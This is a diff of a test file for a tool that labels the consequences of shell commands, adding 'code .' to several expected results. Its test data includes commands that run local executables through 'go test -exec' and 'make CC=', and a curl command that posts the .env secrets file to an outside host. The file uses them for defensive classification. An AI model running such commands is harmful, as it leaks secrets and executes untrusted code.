@@ -109,10 +109,13 @@ describe("what programs do", () => {
     ],
     [
       ["go", "test", "-exec", "./x"],
-      ["option-consequences", "script ./x", "guess test"],
+      ["option-consequences", "script ./x", "guess test", "code ."],
     ],
-    [["make", "CC=./x"], ["make-variable"]],
-    [["make", "V=1"], []],
+    [
+      ["make", "CC=./x"],
+      ["code .", "make-variable"],
+    ],
+    [["make", "V=1"], ["code ."]],
     [
       ["curl", "-d", "@.env", "https://a.b"],
       ["network https://a.b", "read .env"],
